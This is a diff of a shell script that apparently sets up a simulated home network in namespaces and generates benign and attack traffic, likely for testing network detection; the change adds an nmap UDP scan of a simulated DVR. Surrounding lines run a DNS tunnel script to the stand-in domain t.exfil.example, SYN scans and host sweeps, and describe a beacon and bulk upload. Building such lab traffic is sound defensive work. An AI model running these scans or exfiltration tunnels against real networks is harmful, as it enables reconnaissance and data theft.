@@ -10,7 +10,7 @@
 #                                          against dvr, a 5 s beacon to 198.51.100.66:8443, a DNS
 #                                          tunnel and generated domains
 #   dvr      10.79.0.30   00:1a:2b Ayecom   telnetd (inetutils, through a minimal inetd)
-#   scanner  10.79.0.40   e4:54:e8 Dell     attack only: nmap SYN port scan of dvr, sweep of
+#   scanner  10.79.0.40   e4:54:e8 Dell     attack only: nmap SYN and UDP port scans of dvr, sweep of
 #                                          10.79.2.0/27 on tcp/80, ARP pings of the empty
 #                                          10.79.0.64/27, ICMP pings of 10.79.2.32/27
 #   nas      10.79.0.50   00:11:32 Synology benign: small uploads; attack: 6 MB bulk upload
@@ -108,6 +108,7 @@ if [ "$mode" = attack ]; then
   in_ns cam python3 "$here/dns_tunnel.py" --server 10.79.0.1 --domain t.exfil.example \
     --queries 80 --dga 12 >"$work/tunnel.log" 2>&1
   in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 1-200 10.79.0.30 >"$work/nmap1.log" 2>&1
+  in_ns scanner nmap -n -Pn -sU -T5 --max-retries 0 -p 1-100 10.79.0.30 >"$work/nmap5.log" 2>&1
   in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 80 10.79.2.0/27 >"$work/nmap2.log" 2>&1
   # Host discovery: ARP pings of an empty part of the LAN, ICMP echo to the routed range.
   in_ns scanner nmap -n -sn -PR -T5 --max-retries 0 10.79.0.64/27 >"$work/nmap3.log" 2>&1
